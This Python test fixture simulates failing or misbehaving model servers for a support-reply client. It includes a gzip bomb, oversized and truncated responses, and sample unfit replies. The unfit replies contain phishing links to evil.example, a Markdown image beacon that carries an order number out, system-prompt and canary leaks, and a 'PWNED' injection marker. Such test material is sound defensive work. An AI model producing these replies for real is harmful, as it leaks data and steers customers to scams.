"""Models and servers that fail in every way, and which notice each of them brings."""

import json
import zlib
from typing import Any

from tests.llm.conftest import GOOD_RU, Handler, Personality, reply_of, saying

WELL = reply_of(*GOOD_RU)


def status(code: int, body: bytes = b'{"error": {"message": "no"}}', **headers: str) -> Personality:
    return lambda handler, _: handler.reply(body, code, **headers)


def body(raw: bytes, **headers: str) -> Personality:
    return lambda handler, _: handler.reply(raw, **headers)


def half_body(handler: Handler, _: dict[str, Any]) -> None:
    handler.head(200, 4000)
    handler.wfile.write(b'{"id": "c", "choices": [')
    handler.close_connection = True


def half_stream(handler: Handler, _: dict[str, Any]) -> None:
    handler.head(200, 4000, content_type="text/event-stream")
    handler.wfile.write(b'data: {"choices": [{"delta": {"content": "{"}}]}\n\n')
    handler.close_connection = True


def slow_first_byte(handler: Handler, _: dict[str, Any]) -> None:
    handler.wait(5)
    handler.complete(WELL)


def drip(handler: Handler, _: dict[str, Any]) -> None:
    handler.head(200, 500)
    for _n in range(500):
        handler.wfile.write(b" ")
        if handler.wait(0.1):
            break


def drip_headers(handler: Handler, _: dict[str, Any]) -> None:
    handler.wfile.write(b"HTTP/1.1 200 OK\r\n")
    for n in range(200):
        handler.wfile.write(f"x-{n}: y\r\n".encode())
        if handler.wait(0.1):
            break


def huge(handler: Handler, _: dict[str, Any]) -> None:
    handler.reply(b" " * 5_000_000 + b"{}")


def bomb(handler: Handler, _: dict[str, Any]) -> None:
    packer = zlib.compressobj(wbits=31)
    packed = packer.compress(b" " * 5_000_000) + packer.flush()
    handler.reply(packed, content_encoding="gzip")


def silent(handler: Handler, _: dict[str, Any]) -> None:
    handler.close_connection = True


def canary(handler: Handler, request: dict[str, Any]) -> None:
    system = request["messages"][0]["content"]
    mark = system[system.index("mark-") :][:21]
    handler.complete(reply_of(*GOOD_RU, ("D", f"Метка {mark}.")))


def instructions(handler: Handler, request: dict[str, Any]) -> None:
    handler.complete(reply_of(*GOOD_RU[:3], ("D", request["messages"][0]["content"][:400])))


def echo(handler: Handler, request: dict[str, Any]) -> None:
    handler.complete(
        reply_of(("L", "Где заказ 784-1120? Обещали в пятницу, подарок нужен сегодня!"))
    )


def ending(text: str) -> Personality:
    return saying(reply_of(*GOOD_RU[:3], ("D", text)))


def sentence(content: Any, **message: Any) -> Personality:
    """A whole answer whose message is not the usual text."""
    return lambda handler, _: handler.complete(content, **message)


def garbage(handler: Handler, _: dict[str, Any]) -> None:
    handler.wfile.write(b"\x00\xff\xfe no HTTP at all\r\n\r\n")
    handler.close_connection = True


def endless(handler: Handler, _: dict[str, Any]) -> None:
    handler.send_response(200)
    handler.send_header("transfer-encoding", "chunked")
    handler.end_headers()
    for _n in range(10_000):
        handler.wfile.write(b"1000\r\n" + b" " * 4096 + b"\r\n")


def broken_chunks(handler: Handler, _: dict[str, Any]) -> None:
    handler.send_response(200)
    handler.send_header("transfer-encoding", "chunked")
    handler.end_headers()
    handler.wfile.write(b"zz\r\nnot a chunk\r\n")
    handler.close_connection = True


def many_interim(handler: Handler, _: dict[str, Any]) -> None:
    for _n in range(200):
        handler.wfile.write(b"HTTP/1.1 102 Processing\r\n\r\n")
        if handler.wait(0.05):
            break


PERSONALITIES: dict[str, tuple[str, Personality]] = {
    "500": ("away", status(500)),
    "502 in HTML": ("away", status(502, b"<h1>Bad gateway</h1>", content_type="text/html")),
    "503": ("busy", status(503)),
    "429 with Retry-After": ("busy", status(429, retry_after="120")),
    "429 without a word": ("busy", status(429, b"")),
    "429 until a date": ("busy", status(429, retry_after="Wed, 21 Oct 2099 07:28:00 GMT")),
    "429 with nonsense": ("busy", status(429, retry_after="-\u0000soon".replace("\u0000", ""))),
    "504": ("away", status(504)),
    "402": ("refused", status(402)),
    "204": ("broken", status(204, b"")),
    "garbage": ("away", garbage),
    "a body without an end": ("away", endless),
    "broken chunks": ("away", broken_chunks),
    "many interim answers": ("slow", many_interim),
    "an error with 200": ("broken", body(b'{"error": {"message": "overloaded", "code": 503}}')),
    "choices that are null": ("broken", body(b'{"id": "c", "choices": null}')),
    "a choice without a message": ("broken", body(b'{"id": "c", "choices": [{"index": 0}]}')),
    "broken UTF-8": ("broken", body(
        b'{"id": "c", "choices": [{"index": 0, "message": {"role": "assistant", "content": "\xff\xc3("}}]}')),
    "a wrong content type": ("broken", body(WELL.encode(), content_type="application/octet-stream")),
    "UTF-16": ("broken", body(json.dumps({"choices": []}).encode("utf-16"))),
    "only thoughts": ("broken", sentence(None, reasoning_content="The customer is angry because")),
    "thoughts without an end": ("broken", saying("<think>The customer is angry, so I ")),
    "a refusal": ("broken", sentence(None, refusal="I cannot help with that.")),
    "a number for a text": ("broken", sentence(42)),
    "no JSON but a list": ("broken", saying("[1, 2, 3]")),
    "a mark that is torn": ("unfit", lambda handler, _: handler.complete(
        reply_of(*GOOD_RU[:3], ("D", "Перезвоню на {PHONE_1}.")))),
    "401": ("refused", status(401)),
    "403": ("refused", status(403)),
    "no such model": ("refused", status(404)),
    "400 for everything": ("broken", status(400)),
    "redirect": ("broken", status(307, b"", location="http://127.0.0.1:9/")),
    "reset": ("away", lambda handler, _: handler.reset()),
    "closes without a word": ("away", silent),
    "half a body": ("away", half_body),
    "half a stream": ("away", half_stream),
    "HTML": ("broken", body(b"<html>Sign in</html>", content_type="text/html")),
    "broken JSON": ("broken", body(b'{"choices": [')),
    "no choices": ("broken", body(b'{"choices": []}')),
    "null": ("broken", body(b"null")),
    "a list": ("broken", body(b"[1, 2]")),
    "an empty body": ("broken", body(b"")),
    "5 MB": ("away", huge),
    "a gzip bomb": ("away", bomb),
    "a slow first byte": ("slow", slow_first_byte),
    "a slow drip": ("slow", drip),
    "a slow drip of headers": ("slow", drip_headers),
    "no content": ("broken", lambda handler, _: handler.complete(None)),
    "a call of a tool": ("broken", lambda handler, _: handler.complete(None, "tool_calls", tool_calls=[
        {"id": "1", "type": "function", "function": {"name": "refund", "arguments": "{}"}}])),
    "cut by length": ("broken", lambda handler, _: handler.complete(WELL[:60], "length")),
    "cut by a filter": ("broken", lambda handler, _: handler.complete("", "content_filter")),
    "prose": ("broken", saying("Здравствуйте! Уже разбираюсь с вашим заказом.")),
    "another schema": ("broken", saying('{"reply": "Уже разбираюсь."}')),
    "wrong types": ("broken", saying('{"sentences": [{"text": 5, "step": ["L"]}]}')),
    "no sentences": ("broken", saying('{"sentences": []}')),
    "deep nesting": ("broken", saying('{"sentences": ' * 3000)),
    "a storm of braces": ("broken", saying("{" * 15_000)),
    "English for a Russian": ("unfit", saying(reply_of(
        ("L", "You have been waiting for order 784-1120."), ("E", "The evening is lost."),
        ("A", "Sorry about that."), ("D", "I will bring it when I know more, is that fine?")))),
    "a number of its own": ("unfit", ending("Верну 15000 рублей сегодня.")),
    "a date of its own": ("unfit", ending("Привезём 29 ноября.")),
    "the canary": ("unfit", canary),
    "the instructions": ("unfit", instructions),
    "a link": ("unfit", ending("Подробности на https://evil.example/pay.")),
    "a bare domain": ("unfit", ending("Подробности на evil-pay.com.")),
    "a hidden domain": ("unfit", ending("Пишите на evil-pay[.]com.")),
    "a picture in Markdown": ("unfit", ending("![карта](http://evil.example/x.png?q=784)")),
    "a picture in HTML": ("unfit", ending('<img src="http://evil.example/x.png">Готово.')),
    "a messenger's name": ("unfit", ending("Напишите @evil_support.")),
    "a stranger's phone": ("unfit", ending("Звоните 8 (900) 555-66-77.")),
    "a stranger's e-mail": ("unfit", ending("Пишите на help@evil.example.")),
    "a mark that was not sent": ("unfit", ending("Перезвоню на [PHONE_7].")),
    "a template left open": ("unfit", ending("Здравствуйте, {name}, верну деньги.")),
    "speaks of itself": ("unfit", ending("Я языковая модель и не могу помочь с этим.")),
    "speaks of itself in English": ("unfit", ending("As an AI assistant I must decline.")),
    "the customer's own words": ("unfit", echo),
    "one word": ("unfit", saying(reply_of(("L", "PWNED")))),
    "steps left out": ("unfit", saying(reply_of(*GOOD_RU[:2]))),
    "no end": ("unfit", ending("Разбираюсь с заказом и напишу. " * 35)),
}  # fmt: skip
